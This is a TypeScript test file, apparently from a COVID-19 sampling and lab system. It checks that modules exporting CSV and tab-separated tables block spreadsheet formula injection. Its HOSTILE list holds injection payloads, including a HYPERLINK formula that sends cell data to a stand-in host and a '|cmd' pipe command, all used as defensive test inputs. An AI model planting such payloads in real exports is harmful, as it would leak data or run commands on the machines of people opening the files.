import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { WELLS_HEADER, wellsTable } from "../../../local/read-run/wells-table.ts";
import { LINE_LIST_HEADER, lineListOf } from "../../../shared/domain/command/line-list.ts";
import { PROVINCIAL_HEADER, provincialLines, saidOf } from "../../../shared/domain/command/provincial-csv.ts";
import { SARS_COV_2_DUAL_TARGET } from "../../../shared/domain/laboratory/kit.ts";
import { arrange, usualControls } from "../../../shared/domain/laboratory/plate.ts";
import { SHEET_INSTRUMENTS } from "../../../shared/domain/laboratory/sheet-instrument.ts";
import type { Resident } from "../../../shared/domain/people/resident.ts";
import type { PlannedSamplingSite } from "../../../shared/domain/planning/places/planned-sites.ts";
import { siteCsv, sitesCsv } from "../../../shared/domain/planning/report/plan-csv.ts";
import { writeSampleSheet } from "../../../shared/instruments/writers/sample-sheet.ts";
import { csvOf } from "../../../web/src/ui/files/save-csv.ts";
import { aTube } from "../../support/factories/tube.ts";

const ROOT = new URL("../../../", import.meta.url).pathname;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/"&A1)',
  "@SUM(A1)",
  "-2+3+cmd",
  "+1+1",
  "\t=1+1",
  " ＝1+1",
  "|cmd",
  "古城;=1+1;路",
  "古城\t=1+1",
  "古城\n=1+1",
  "古城;\t@SUM(A1);",
  '古城";=1+1;"',
];

type Table = readonly [separator: "," | "\t", text: string];

const withCommas = (text: string): Table => [",", text];

/** Every module that writes tables for spreadsheets, and those it writes when somebody named things so. */
const TABLES: Record<string, (named: string) => Table[]> = {
  "local/read-run/wells-table.ts": (named) => [
    withCommas(
      `${WELLS_HEADER}\n${wellsTable([{ well: "A1", sample: named, target: named, ct: 21.5, role: "unknown" }])}`,
    ),
  ],
  "shared/domain/command/line-list.ts": (named) => [
    withCommas(
      LINE_LIST_HEADER +
        lineListOf(
          {
            tube: { ...aTube({ lane: 1 }), outcome: "positive", publishedAt: "2026-03-02T09:00:00.000Z" },
            calls: [{ target: named, ct: 21.5 }],
          },
          [
            {
              residentId: "RESIDENT0001",
              status: "held",
              sampledAt: "2026-03-02T01:00:00.000Z",
              resident: { ...PERSON, name: named, documentNumber: named, address: named, phone: named },
            },
          ],
        ),
    ),
  ],
  "shared/domain/command/provincial-csv.ts": (named) => {
    const tube = { ...aTube(), outcome: "negative" as const, publishedAt: "2026-03-02T09:00:00.000Z" };
    const resident = { ...PERSON, name: named, documentNumber: named, phone: named };
    const said = saidOf({ tube, sampledAt: tube.publishedAt, resident });
    const row = { residentId: PERSON.residentId, revision: "0123456789ab", said };
    const lines = provincialLines(tube.tubeBarcode, [{ ...row, action: "new", row }]);
    return [withCommas(PROVINCIAL_HEADER + lines)];
  },
  "shared/domain/planning/report/plan-csv.ts": (named) => [
    withCommas(sitesCsv({ sites: [SITE] }, () => named)),
    withCommas(siteCsv({ couriers: [] }, SITE, () => named)),
  ],
  "shared/instruments/writers/sample-sheet.ts": (named) => {
    const layout = { size: 96, fill: "columns", controls: usualControls(96, "columns") } as const;
    const plate = { ...layout, plateId: "01ARZ3NDEKTSV4RRFFQ69G5FAV", tubes: arrange([named], layout) };
    const kit = {
      ...SARS_COV_2_DUAL_TARGET,
      targets: SARS_COV_2_DUAL_TARGET.targets.map((target) => ({ ...target, name: named })),
    };
    return SHEET_INSTRUMENTS.map((instrument): Table => {
      const { fileName, text } = writeSampleSheet(instrument, plate, kit);
      return [fileName.endsWith(".txt") ? "\t" : ",", text];
    });
  },
  "web/src/ui/files/save-csv.ts": (named) => [withCommas(csvOf([["name"], [named], ["a", named]]))],
};

const PERSON: Resident = {
  ...{ residentId: "RESIDENT0001", householdId: "H1", communityId: "110107001001", name: "张三" },
  ...{ documentType: "residentId", documentNumber: "990101199001011234", birthDate: "1990-01-01" },
  ...{ language: "zh-CN", dependant: false, provisional: false, updatedAt: "2026-03-02T01:00:00.000Z" },
};

const SITE: PlannedSamplingSite = {
  ...{ siteId: "110107001-F1", subDistrictId: "110107001", kind: "fixed", isForKeyCommunities: false },
  ...{ lanes: 2, people: 1_000, tubes: 110, seats: 1_100, opensAt: "08:00", closesAt: "20:00" },
  ...{ firstHour: 0, setUpFromHour: -4, xKm: -1.5, yKm: 2, communities: ["110107001001"] },
  assignments: [{ communityId: "110107001001", people: 1_000 }],
};

/** Cells as the table means them, and as a program shows them that separates cells otherwise and so misses its quotes. */
function cellsOf([own, table]: Table): string[] {
  const meant: string[][] = parse(table, {
    ...{ delimiter: own, bom: true, relax_quotes: true, relax_column_count: true },
    record_delimiter: ["\r\n", "\n"],
  });
  const missed = [",", ";", "\t"]
    .filter((separator) => separator !== own)
    .flatMap((separator) => table.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator)));
  return [...meant.flat(), ...missed];
}

const isFormula = (cell: string): boolean =>
  /^[\s\p{Cc}"]*[=+\-@＝＋－＠|%]/u.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell);

const SOURCES = ["functions", "infra", "local", "shared", "web/src"]
  .flatMap((folder) =>
    readdirSync(join(ROOT, folder), { recursive: true, encoding: "utf8" })
      .filter((name) => /\.tsx?$/.test(name))
      .map((name) => join(folder, name)),
  )
  .sort()
  .map((path) => ({ path, text: readFileSync(join(ROOT, path), "utf8") }));
const pathsWhere = (pattern: RegExp): string[] =>
  SOURCES.filter(({ text }) => pattern.test(text)).map(({ path }) => path);

describe("tables for spreadsheets", () => {
  it("are written by these modules, all of which this test tries", () => {
    expect(pathsWhere(/from "[./\w-]*\/csv-cell\.ts"/)).toEqual(Object.keys(TABLES));
  });

  it("are put together from cells nowhere else", () => {
    expect(pathsWhere(/\.join\(\s*["'`](?:,|;|\\t)["'`]\s*\)/)).toEqual([
      // Headers of a request.
      "local/server/gateway-event.ts",
      "shared/domain/transport/custody.ts",
      // What an instrument would write, for the demonstration: no person opens it.
      "shared/instruments/writers/quantstudio-writer.ts",
      // Cells that are made one by one, because this instrument wants quotes around each; tried above.
      "shared/instruments/writers/sample-sheet.ts",
      "shared/store/table/reads.ts",
    ]);
  });

  it("are given to people by pages only as rows, or as the server wrote them", () => {
    expect(pathsWhere(/text\/csv["']\s*[,}]/)).toEqual([
      "web/src/command/export-card.tsx",
      "web/src/command/provincial/reconciliation-card.tsx",
      "web/src/ui/files/save-csv.ts",
    ]);
  });

  it.each(
    Object.entries(TABLES).flatMap(([path, tables]) => HOSTILE.map((text) => [path, text, tables] as const)),
  )("of %s show no formula of %j, whatever separates cells", (_, text, tables) => {
    const written = tables(text);

    const shown = written.flatMap(cellsOf);
    expect(written.every(([, table]) => table.includes("1+1") || !text.includes("1+1"))).toBe(true);
    expect(shown.filter(isFormula)).toEqual([]);
  });

  it("have as many cells in each row of sites as their header", () => {
    const rows: string[][] = parse(sitesCsv({ sites: [SITE] }, () => "古城"));

    expect(rows.map((row) => row.length)).toEqual([16, 16]);
    expect(rows[0]?.[10]).toBe("seats");
  });
});
